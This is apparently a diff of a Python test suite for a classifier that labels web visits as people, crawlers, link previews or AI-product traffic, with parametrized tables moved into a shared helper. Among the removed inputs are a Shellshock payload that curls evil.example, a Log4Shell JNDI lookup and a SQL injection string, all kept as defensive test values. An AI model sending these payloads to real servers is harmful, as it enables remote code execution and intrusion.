@@ -22,6 +22,7 @@ from data.visits import (
     Classification,
 )
 from tests.corpus import NAMES, labelled
+from tests.tables import examples
 
 CHROME = (
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
@@ -68,17 +69,7 @@ def test_a_browser_without_any_sign_is_a_person(told):
 
 @pytest.mark.parametrize("query", ["", AI_QUERY])
 @pytest.mark.parametrize("referrer", ["", AI_REFERRER, "https://www.google.com/"])
-@pytest.mark.parametrize(
-    ("user_agent", "kind", "ai_source"),
-    [
-        (GPTBOT, "training", "ChatGPT"),
-        (CHATGPT_USER, "assistant_fetch", "ChatGPT"),
-        (GOOGLEBOT, "search", None),
-        ("curl/8.5.0", "library", None),
-        ("python-requests/2.31.0", "library", None),
-        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "preview", None),
-    ],
-)
+@examples("user_agent", "kind", "ai_source")
 def test_an_automaton_stays_what_it_is_whatever_link_it_follows(told, user_agent, kind, ai_source, referrer, query):
     found = told(user_agent, referrer=referrer, query=query)
     assert (found.agent_kind, found.ai_source) == (kind, ai_source)
@@ -116,81 +107,23 @@ def test_a_person_sent_by_an_ai_product_is_a_referral_and_keeps_the_device(told)
     )
 
 
-@pytest.mark.parametrize(
-    ("referrer", "query", "expected"),
-    [
-        (AI_REFERRER, "", ("ai_referral", "ChatGPT", "medium", "referrer")),
-        ("", AI_QUERY, ("ai_referral", "ChatGPT", "medium", "utm")),
-        (AI_REFERRER, AI_QUERY, ("ai_referral", "ChatGPT", "high", "utm")),
-        ("https://claude.ai/", AI_QUERY, ("ai_referral", "ChatGPT", "high", "utm")),
-        ("https://www.google.com/", AI_QUERY, ("ai_referral", "ChatGPT", "medium", "utm")),
-        ("", "utm_source=chatgpt", ("ai_referral", "ChatGPT", "low", "utm")),
-        (AI_REFERRER, "utm_source=chatgpt", ("ai_referral", "ChatGPT", "high", "utm")),
-        (AI_REFERRER, "utm_source=newsletter", ("ai_referral", "ChatGPT", "medium", "referrer")),
-        ("", "utm_source=newsletter", ("human", None, None, None)),
-        ("https://www.google.com/search?q=chatgpt.com", "", ("human", None, None, None)),
-        ("https://www.bing.com/", "utm_medium=chatgpt.com", ("human", None, None, None)),
-    ],
-)
+@examples("referrer", "query", "expected")
 def test_a_campaign_is_believed_before_a_referrer_and_both_are_surer(told, referrer, query, expected):
     found = told(referrer=referrer, query=query)
     assert (found.bot_category, found.ai_source, found.confidence, found.detection_method) == expected
 
 
-@pytest.mark.parametrize(
-    ("source", "ai_source"),
-    [
-        ("ChatGPT.com", "ChatGPT"),
-        ("www.chatgpt.com", "ChatGPT"),
-        ("%63hatgpt.com", "ChatGPT"),
-        ("+chatgpt.com+", "ChatGPT"),
-        ("openai", "ChatGPT"),
-        ("perplexity", "Perplexity"),
-        ("claude.ai", "Claude"),
-        ("www.perplexity.ai", "Perplexity"),
-        ("copilot.microsoft.com", "Copilot"),
-        ("chatgpt.com.evil.example", None),
-        ("notchatgpt.com", None),
-        ("chatgpt-newsletter", None),
-        ("google", None),
-        ("kagi.com", None),
-        ("", None),
-    ],
-)
+@examples("source", "ai_source")
 def test_a_campaign_names_an_ai_product_exactly_or_not_at_all(told, source, ai_source):
     assert told(query=f"a=b&utm_source={source}&c=d").ai_source == ai_source
 
 
-@pytest.mark.parametrize(
-    "referrer",
-    [
-        "https://chatgpt.com.evil.example/",
-        "https://notchatgpt.com/",
-        "https://www.google.com/search?q=chatgpt.com",
-        "javascript:alert('https://chatgpt.com/')",
-        "http://[::1/chatgpt.com",
-        "https://chatgpt.com@evil.example/",
-        "https://duckduckgo.com/?q=claude.ai",
-        "https://x.com/",
-        "https://docs.google.com/",
-        "-",
-    ],
-)
+@examples("referrer")
 def test_a_referrer_that_only_looks_like_an_ai_product_sends_people(told, referrer):
     assert told(referrer=referrer).bot_category == "human"
 
 
-@pytest.mark.parametrize(
-    ("referrer", "expected"),
-    [
-        ("", (None, "direct")),
-        ("-", (None, "direct")),
-        ("javascript:void(0)", (None, "direct")),
-        ("https://WWW.Google.com:443/search?q=x", ("www.google.com", "search")),
-        ("https://somewhere.example/page", ("somewhere.example", "other")),
-        ("https://claude.ai./", ("claude.ai", "ai")),
-    ],
-)
+@examples("referrer", "expected")
 def test_the_origin_names_the_host_and_what_it_is(classifier, referrer, expected):
     origin = classifier.origin(Request.from_log(CHROME, "GET", referrer, ""))
     assert (origin.referrer, origin.referrer_type) == expected
@@ -200,26 +133,7 @@ def test_the_origin_names_the_host_and_what_it_is(classifier, referrer, expected
 # Campaigns
 
 
-@pytest.mark.parametrize(
-    ("query", "expected"),
-    [
-        ("", (None, None, None, None, None)),
-        ("a=1&b=2", (None, None, None, None, None)),
-        (
-            "utm_source=s&utm_medium=m&utm_campaign=c&utm_term=t&utm_content=n",
-            ("s", "m", "c", "t", "n"),
-        ),
-        ("utm_source=a&utm_source=b", ("a", None, None, None, None)),
-        ("utm_campaign=a+b%20c%C3%A9", (None, None, "a b cé", None, None)),
-        ("utm_source=%20%20", (None, None, None, None, None)),
-        ("utm_source=%ff%fe", ("\ufffd\ufffd", None, None, None, None)),
-        ("utm_source", (None, None, None, None, None)),
-        ("utm_source=a;utm_medium=b", ("a;utm_medium=b", None, None, None, None)),
-        ("UTM_SOURCE=a&xutm_source=b", (None, None, None, None, None)),
-        ("utm_source==a", ("=a", None, None, None, None)),
-        ("utm_source=%", ("%", None, None, None, None)),
-    ],
-)
+@examples("query", "expected")
 def test_the_words_of_a_campaign_are_read_from_the_query(query, expected):
     assert utm_values(query) == expected
 
@@ -235,118 +149,30 @@ def test_a_query_of_very_many_words_is_read_at_its_beginning_only():
 # Agents, and what only looks like one
 
 
-@pytest.mark.parametrize(
-    ("user_agent", "category", "agent"),
-    [
-        (GPTBOT, "ai_training", "GPTBot"),
-        (GPTBOT.lower(), "ai_training", "GPTBot"),
-        ("GPTBot", "ai_training", "GPTBot"),
-        (CHATGPT_USER, "ai_assistant", "ChatGPT-User"),
-        ("Claude-User (claude-code/2.1.260; +https://support.anthropic.com/)", "ai_coding_agent", "Claude Code"),
-        ("Mozilla/5.0 (compatible; Claude-User/1.0; +Claude-User@anthropic.com)", "ai_assistant", "Claude-User"),
-        (" Mozilla/5.0 (KHTML, like Gecko; compatible; Amzn-User/0.1) Chrome/119.0", "ai_assistant", "Amzn-User"),
-        ("Mozilla/5.0 (compatible; PerplexityBot/1.0; +https://perplexity.ai/bot)", "ai_assistant", "PerplexityBot"),
-        ("CCBot/2.0 (https://commoncrawl.org/faq/)", "ai_training", "CCBot"),
-        ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "search_crawler", "bingbot"),
-        (GOOGLEBOT, "search_crawler", "Googlebot"),
-        (android("Nexus 5X", "6.0.1") + f" {GOOGLEBOT[12:]}", "search_crawler", "Googlebot"),
-    ],
-)
+@examples("user_agent", "category", "agent")
 def test_agents_are_known_by_their_tokens(told, user_agent, category, agent):
     found = told(user_agent)
     assert (found.bot_category, found.agent) == (category, agent)
 
 
-@pytest.mark.parametrize(
-    "user_agent",
-    [
-        "MyGPTBotClone/1.0",
-        "ShowyouBot/1.0",
-        "BaiduMobaider",
-        "Claude-Userland/1.0",
-        "LinkAider/1.0",
-        "Goose/3.1.6",
-        "WordPress/6.4; https://gptbot.example.com",
-        "WordPress/6.4; https://example.com/claude-user",
-        "Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)",
-    ],
-)
+@examples("user_agent")
 def test_a_word_within_a_word_is_no_agent_of_an_ai_product(told, user_agent):
     found = told(user_agent)
     assert found.bot_category not in (*AI_CATEGORIES, "human")
     assert found.ai_source is None
 
 
-@pytest.mark.parametrize(
-    "user_agent",
-    [
-        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
-        IMESSAGE,
-        "WhatsApp/2.23.20.0 A",
-        "TelegramBot (like TwitterBot)",
-        "Mozilla/5.0 (Windows NT 6.1; WOW64) SkypeUriPreview Preview/0.5",
-        "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
-        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
-        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
-    ],
-)
+@examples("user_agent")
 def test_link_previews_are_no_people(told, user_agent):
     assert told(user_agent, referrer=AI_REFERRER).agent_kind == "preview"
 
 
-@pytest.mark.parametrize(
-    "user_agent",
-    [
-        "Mozilla/5.0",
-        "Mozilla/5.0 ()",
-        "curl/8.5.0",
-        "Java/17.0.2",
-        "okhttp/4.9.0",
-        "some-script",
-        "x",
-        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0 Safari/537.36",
-        "Mozilla/5.0 (compatible; SomethingNewBot/0.1)",
-        "Mozilla/5.0 (compatible; newthing; +https://newthing.example/about)",
-        "Mozilla/5.0 (Windows NT 10.0) MyCrawler",
-        "() { :; }; /bin/bash -c 'curl http://evil.example'",
-        "${jndi:ldap://evil.example/a}",
-        "' OR 1=1 --",
-    ],
-)
+@examples("user_agent")
 def test_what_no_browser_says_is_no_person(told, user_agent):
     assert told(user_agent).bot_category == "other_bot"
 
 
-@pytest.mark.parametrize(
-    "user_agent",
-    [
-        android("CUBOT DINOSAUR Build/MRA58K", "6.0"),
-        android("CUBOT_P30", "9"),
-        android("CUBOT"),
-        android("M bot 551 Build/LMY47D", "5.1"),
-        android("M bot 60", "7.0"),
-        android("XBOT_Senior Build/KOT49H", "4.4.2"),
-        android("C Bot Tab 70 Build/MRA58K", "6.0", mobile=""),
-        android("VR BOT 552 Build/NHG47K; wv", "7.1.2"),
-        android("Spider 8", "8.1"),
-        android("CPH2609 Build/AP3A.240617.008; wv", "15"),
-        android("HTC Butterfly Build/JRO03C", "4.1"),
-        android("ViewSonic-V450 Build/LMY47D", "5.1"),
-        android("Gemini 4G Build/LMY47D", "5.1"),
-        android("Nexa Atlas"),
-        android("Discovery Build/LMY47D", "5.1"),
-        SAFARI.replace(" Safari", " GSA/317.0.634488990 Safari"),
-        SAFARI.replace("Version/17.5 Mobile/15E148 Safari/604.1", "Mobile/15E148 [FBAN/FBIOS;FBAV/465.0.1.41.103]"),
-        android("SM-G991B; wv") + " Instagram 302.0.0.34.111 Android (33/13; 480dpi; 1080x2176; samsung; SM-G991B)",
-        CHROME + " SE 2.X MetaSr 1.0 Sogou",
-        CHROME + " Edg/131.0.0.0",
-        CHROME + " OPR/116.0.0.0",
-        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
-        "Opera/9.80 (Windows NT 6.1; WOW64) Presto/2.12.388 Version/12.18",
-        "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 GNUTLS/3.7.8",
-        "w3m/0.5.3+git20230121",
-    ],
-)
+@examples("user_agent")
 def test_people_with_odd_devices_and_browsers_are_people(told, user_agent):
     assert told(user_agent)[:7] == HUMAN
 
@@ -369,43 +195,7 @@ def test_the_browser_inside_another_editor_is_a_person(told):
 PEOPLE = DeviceRules()
 
 
-@pytest.mark.parametrize(
-    ("user_agent", "device_type"),
-    [
-        (CHROME, "desktop"),
-        (SAFARI, "mobile"),
-        (
-            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
-            "desktop",
-        ),
-        ("Mozilla/5.0 (iPad; CPU OS 12_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Safari/604.1", "tablet"),
-        ("Mozilla/5.0 (iPod touch; CPU iPhone OS 12_5 like Mac OS X) Mobile/15E148", "mobile"),
-        (android("Pixel 8"), "mobile"),
-        (android("K"), "mobile"),
-        (android("SM-T510", mobile=""), "tablet"),
-        (android("Lenovo Tablet"), "tablet"),
-        (
-            "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 Silk/96.3 like Chrome/96.0 Safari/537.36",
-            "tablet",
-        ),
-        ("Mozilla/5.0 (PlayBook; U; RIM Tablet OS 2.1.0) AppleWebKit/536.2+ Version/7.2.1.0 Safari/536.2+", "tablet"),
-        ("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; Tablet PC 2.0)", "desktop"),
-        ("Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 Chrome/76.0 TV Safari/537.36", "desktop"),
-        ("Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 Chrome/94.0 Safari/537.36", "desktop"),
-        (android("BRAVIA 4K UR2", mobile=""), "desktop"),
-        (android("AFTMM Build/NS6265; wv", "7.1.2"), "desktop"),
-        ("Mozilla/5.0 (X11; Linux armv7l) AppleWebKit/537.36 Chrome/90.0 Safari/537.36 CrKey/1.54", "desktop"),
-        ("Mozilla/5.0 (Linux; U; Android 4.0; Google TV) AppleWebKit/534.30", "desktop"),
-        ("Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 Version/13.0 Safari/605.1.15", "desktop"),
-        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) Edge/18.19041", "desktop"),
-        ("Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/606.4 NF/6.0.1 NintendoBrowser/5.1", "desktop"),
-        ("Mozilla/5.0 (Mobile; Nokia_2720; rv:48.0) Gecko/48.0 Firefox/48.0 KAIOS/2.5.2.1", "mobile"),
-        ("Opera/9.80 (J2ME/MIDP; Opera Mini/9.80; U; en) Presto/2.5.25 Version/10.54", "mobile"),
-        ("BlackBerry9700/5.0.0.862 Profile/MIDP-2.1 Configuration/CLDC-1.1", "mobile"),
-        ("Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 Chrome/131.0 Safari/537.36", "desktop"),
-        ("", "desktop"),
-    ],
-)
+@examples("user_agent", "device_type")
 def test_devices_are_desktops_phones_or_tablets(user_agent, device_type):
     assert PEOPLE.device_type(user_agent) == device_type
 
@@ -413,31 +203,7 @@ def test_devices_are_desktops_phones_or_tablets(user_agent, device_type):
 # User agents as servers write them
 
 
-@pytest.mark.parametrize(
-    ("logged", "readable"),
-    [
-        (CHROME, CHROME),
-        ("", ""),
-        ("-", ""),
-        ("  -  ", ""),
-        ('"-"', ""),
-        (f" {CHROME} ", CHROME),
-        (f'"{CHROME}"', CHROME),
-        (rf"\x22{CHROME}\x22", CHROME),
-        (rf"\"{CHROME}\"", CHROME),
-        (r"say \"hi\" twice", 'say "hi" twice'),
-        (r"say \x22hi\x22 twice", 'say "hi" twice'),
-        (r"back\\slash", "back\\slash"),
-        (r"not an escape: \\x22", r"not an escape: \x22"),
-        (r"\x5Cx", "\\x"),
-        (r"unknown \n \q \xZZ \x4", r"unknown \n \q \xZZ \x4"),
-        ("Mozilla/5.0%20(X11;%20Linux%20x86_64)%20Firefox/132.0", "Mozilla/5.0 (X11; Linux x86_64) Firefox/132.0"),
-        ("100%20 with spaces", "100%20 with spaces"),
-        ("50%", "50%"),
-        ("a\0b", "a\0b"),
-        ("Яндекс 浏览器", "Яндекс 浏览器"),
-    ],
-)
+@examples("logged", "readable")
 def test_a_user_agent_is_read_as_it_was_sent(logged, readable):
     assert readable_user_agent(logged) == readable
 
